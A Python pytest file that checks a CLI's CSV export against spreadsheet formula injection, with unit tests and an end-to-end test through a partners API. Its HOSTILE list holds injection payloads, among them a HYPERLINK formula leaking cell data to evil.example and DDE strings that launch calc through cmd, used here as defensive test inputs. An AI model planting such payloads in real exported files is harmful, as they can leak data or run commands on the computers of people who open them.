"""`techniekpact export` writes CSV a spreadsheet cannot be made to run (OWASP, CSV injection).

Before, an organisation named `=HYPERLINK(...)` became a live formula in the partners export.
"""

import csv
import io
import os
import re
import subprocess
import sys
import uuid

import httpx
import pytest

from cli.export import ORGANISATION_COLUMNS, as_csv

HOSTILE = ['=HYPERLINK("https://evil.example/?d="&A1,"Klik")', "+31 35 123 4567", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("name", HOSTILE)
def test_a_cell_that_could_start_a_formula_is_text(name):
    text = as_csv([{"id": "1", "name": name, "sectors": [name, "ict"], "active": True}], ["id", "name", "sectors",
                                                                                            "active"])
    [row] = list(csv.DictReader(io.StringIO(text)))
    assert row["name"] == "'" + name
    assert row["sectors"] == "'" + name + "; ict"
    assert row["active"] == "True"


def test_every_cell_is_quoted_and_numbers_stay_numbers():
    text = as_csv([{"period": "2012", "value": -12.5, "derived": False, "share": None}],
                  ["period", "value", "derived", "share"])
    assert text == '"period","value","derived","share"\n"2012","-12.5","False",""\n'


def test_ordinary_text_is_left_alone():
    text = as_csv([{"name": "Tata Steel", "website": "https://www.tatasteel.nl"}], ["name", "website"])
    assert text.splitlines()[1] == '"Tata Steel","https://www.tatasteel.nl"'


@pytest.mark.e2e
def test_the_partners_export_neutralises_names_from_a_push(stack, tmp_path):
    source = f"hostile-{uuid.uuid4().hex[:6]}"
    kind = "knowledge_institute"
    records = [{"external_id": f"x-{n}", "name": name, "kind": kind, "municipality_code": "GM0193"}
               for n, name in enumerate(HOSTILE)]
    pushed = httpx.put(f"{stack.url('partners_api')}/v1/sources/{source}/organisations", json={"records": records},
                       headers=_source_token(source), timeout=30)
    assert pushed.status_code == 200, pushed.text
    output = tmp_path / "partners.csv"
    result = subprocess.run(
        [sys.executable, "-m", "cli.main", "export", "partners", "--municipality", "GM0193", "--output", str(output)],
        capture_output=True, text=True, timeout=120,
        env={**os.environ, "PARTNERS_API_URL": stack.url("partners_api"), "ACTIONS_API_URL": stack.url("actions_api"),
             "METRICS_API_URL": stack.url("metrics_api")})
    assert result.returncode == 0, result.stderr
    text = output.read_text(encoding="utf-8")
    rows = list(csv.DictReader(io.StringIO(text)))
    stored = httpx.get(f"{stack.url('partners_api')}/v1/organisations", params={"municipality": "GM0193"},
                       timeout=30).json()["items"]
    assert len(stored) == len(HOSTILE)
    # The registry trims the names it is sent (a leading tab goes); each stored one still starts a formula.
    assert all(organisation["name"].startswith(("=", "+", "-", "@")) for organisation in stored)
    assert sorted(row["name"] for row in rows) == sorted("'" + organisation["name"] for organisation in stored)
    assert list(rows[0]) == ORGANISATION_COLUMNS
    # Every cell quoted: the whole file is quoted cells, each followed by a comma or the line's end.
    assert re.fullmatch(r'(?:"(?:[^"]|"")*"[,\n])+', text), text[:300]


def _source_token(source: str) -> dict[str, str]:
    from common.auth import issue_token
    from common.settings import DEVELOPMENT_JWT_SECRET

    token = issue_token(DEVELOPMENT_JWT_SECRET, subject="hostile", scopes=["partners:write"], sources=[source])
    return {"Authorization": f"Bearer {token}"}
